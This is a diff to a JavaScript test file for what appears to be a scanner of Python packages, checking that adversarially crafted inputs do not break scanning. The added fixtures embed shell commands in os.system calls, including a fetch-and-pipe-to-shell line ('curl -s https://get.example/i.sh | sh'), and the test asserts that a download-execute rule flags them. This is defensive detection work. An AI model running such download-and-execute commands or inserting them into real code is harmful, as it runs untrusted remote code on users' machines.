@@ -165,10 +165,14 @@ describe('budgets, not crashes: one hostile file never aborts the scan of the ot
       `API_TOKEN = "${'<'.repeat(100_000)}"`,
       `OPENAI_KEY = "${'sk-'.repeat(100_000)}"`,
       `import os\nos.system("${'powershell '.repeat(50_000)}")`,
+      `os.system("${'curl iex '.repeat(50_000)}")`,
+      `os.system("${'wget '.repeat(50_000)}| xargs echo | sh")`,
+      'os.system("curl -s https://get.example/i.sh | sh")',
       '',
     ].join('\n');
     const { hostile } = await scanBesidePayload('quadratic', source);
     assert.equal(networkCall(hostile)?.destination?.host, 'trail.example');
+    assert.ok(hostile.findings.some((finding) => finding.rule === 'download-execute'));
   });
 
   test('a setup.py of many unclosed cmdclass dicts is read in linear time, and a real override after them is found', async () => {
